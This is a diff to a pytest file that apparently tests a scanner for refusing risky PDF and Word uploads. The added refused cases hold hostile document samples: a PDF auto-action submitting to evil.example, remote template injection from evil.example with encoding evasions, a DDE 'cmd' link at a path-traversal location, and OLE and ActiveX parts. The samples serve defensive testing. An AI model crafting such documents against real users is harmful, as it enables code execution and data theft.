@@ -26,6 +26,12 @@ def office(**files: bytes) -> bytes:
     return buffer.getvalue()
 
 
+def link(kind: str, target: str, encoding: str = "utf-8") -> bytes:
+    """Return a part that names another place."""
+    place = f'<Relationship Id="a>" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
+    return f"<Relationships>{place}</Relationships>".encode(encoding)
+
+
 @pytest.mark.parametrize(
     ("media_type", "content"),
     [
@@ -36,6 +42,16 @@ def office(**files: bytes) -> bytes:
         (PDF, b"%PDF-1.7 /Encrypt 1 0 R"),
         (WORD, office(**{"vbaProject.bin": b"x"})),
         (WORD, office(kinds=b"application/vnd.ms-word.document.macroEnabled.main+xml")),
+        (PDF, b"%PDF-1.7 << /AA << /O << /S /SubmitForm /F (http://evil.example) >> >> >>"),
+        (WORD, office(**{"embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
+        (WORD, office(**{"activeX/activeX1.bin": b"x"})),
+        (
+            WORD,
+            office(**{"_rels/settings.xml.rels": link("attachedTemplate", "https://evil.example/x.dotm")}),
+        ),
+        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", "&#104;ttp://evil.example/x")})),
+        (WORD, office(**{"_rels/settings.xml.rels": link("frame", "file://evil/x", "utf-16")})),
+        (WORD, office(**{"../xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"})),
         (WORD, b"PK\x03\x04 broken"),
         ("application/msword", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")),
     ],
@@ -63,6 +79,9 @@ def test_an_archive_bomb_is_refused_unopened(monkeypatch: pytest.MonkeyPatch) ->
     [
         (PDF, b"%PDF-1.7 << /Type /Catalog /OpenAction [3 0 R /Fit] >> stream\n" + zlib.compress(b"BT ET")),
         (WORD, office(**{"document.xml": b"<w/>"})),
+        (WORD, office(**{"_rels/document.xml.rels": link("hyperlink", "https://www.gov.cn/")})),
+        (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", r"file:///C:\Users\a\x.dotm")})),
+        (WORD, office(**{"embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"})),
         ("text/plain", b"/JavaScript"),
     ],
 )
